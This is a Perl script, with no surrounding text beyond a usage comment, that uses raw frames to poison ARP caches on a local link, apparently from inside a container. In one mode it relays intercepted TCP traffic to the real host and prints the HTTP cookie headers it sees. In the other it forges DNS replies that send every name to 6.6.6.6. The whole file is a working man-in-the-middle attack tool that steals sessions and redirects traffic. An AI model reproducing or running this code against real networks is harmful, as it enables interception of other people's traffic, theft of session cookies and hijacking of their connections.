# Poses as another address on the link, with raw frames alone (NET_RAW, which every container has by default).
#
#   spoof.pl <interface's index> <own MAC> <address to pose as> <address to deceive> <its MAC> <MAC to pass on to> <seconds> read|dns
#
# read: passes what comes on to the real owner, and prints cookies that it reads. dns: answers every question with 6.6.6.6.
use strict;
use warnings;
use Socket;

my ($index, $own, $claimed, $deceived, $mac, $real, $seconds, $mode) = @ARGV;
$| = 1;
sub mac { return pack 'C6', map { hex } split /:/, shift }
($own, $mac, $real) = map { mac($_) } $own, $mac, $real;
($claimed, $deceived) = map { inet_aton($_) } $claimed, $deceived;

# AF_PACKET, ETH_P_ALL; struct sockaddr_ll
socket(my $socket, 17, SOCK_RAW, unpack('S', pack('n', 3))) or die "socket: $!";
my $link = pack 'S n l S C C a8', 17, 3, $index, 0, 0, 6, '';
bind($socket, $link) or die "bind: $!";

sub checksum {
  my $data = shift;
  $data .= "\0" if length($data) % 2;
  my $sum = 0;
  $sum += $_ for unpack 'n*', $data;
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}

sub pose {
  for my $operation (1, 2) {
    my $arp = pack('n n C C n', 1, 0x0800, 6, 4, $operation) . $own . $claimed . $mac . $deceived;
    send $socket, $mac . $own . pack('n', 0x0806) . $arp, 0, $link;
  }
}

sub pass_on {
  my ($ip, $header) = @_;
  my $segment = substr $ip, $header;
  my $payload = substr $segment, (unpack('C', substr $segment, 12, 1) >> 4) * 4;
  print "$1\n" if $payload =~ /^(cookie: [^\r\n]*)/im;
  # The host leaves the sum to the hardware, which there is none of.
  substr($segment, 16, 2) = "\0\0";
  my $pseudo = substr($ip, 12, 8) . pack('C C n', 0, 6, length $segment);
  substr($segment, 16, 2) = pack 'n', checksum($pseudo . $segment);
  send $socket, $real . $own . pack('n', 0x0800) . substr($ip, 0, $header) . $segment, 0, $link;
}

sub answer {
  my ($ip, $header, $source) = @_;
  my ($port) = unpack 'n', substr $ip, $header, 2;
  my $query = substr $ip, $header + 8;
  my $end = index($query, "\0", 12) + 5;
  my $is_a = unpack('n', substr $query, $end - 4, 2) == 1;
  my $record = $is_a ? pack('n n n N n', 0xc00c, 1, 1, 1, 4) . inet_aton('6.6.6.6') : '';
  my $dns = substr($query, 0, 2) . pack('n5', 0x8180, 1, $is_a ? 1 : 0, 0, 0) . substr($query, 12, $end - 12) . $record;
  my $udp = pack('n n n n', 53, $port, 8 + length $dns, 0) . $dns;
  my $head = pack('C C n n n C C n', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0) . $claimed . substr($ip, 12, 4);
  substr($head, 10, 2) = pack 'n', checksum($head);
  send $socket, $source . $own . pack('n', 0x0800) . $head . $udp, 0, $link;
  print "asked\n";
}

my $until = time + $seconds;
while (time < $until) {
  pose();
  my $bits = '';
  vec($bits, fileno($socket), 1) = 1;
  my $left = 0.05;
  while ($left > 0 && select(my $ready = $bits, undef, undef, $left)) {
    recv $socket, my $frame, 65535, 0;
    $left -= 0.001;
    my ($to, $source, $type) = unpack 'a6 a6 n', $frame;
    next unless $type == 0x0800 && $to eq $own && substr($frame, 30, 4) eq $claimed;
    my $ip = substr $frame, 14, unpack('n', substr $frame, 16, 2);
    my $header = (unpack('C', $ip) & 15) * 4;
    my $protocol = unpack 'C', substr $ip, 9, 1;
    pass_on($ip, $header) if $mode eq 'read' && $protocol == 6;
    answer($ip, $header, $source)
      if $mode eq 'dns' && $protocol == 17 && unpack('n', substr $ip, $header + 2, 2) == 53;
  }
}
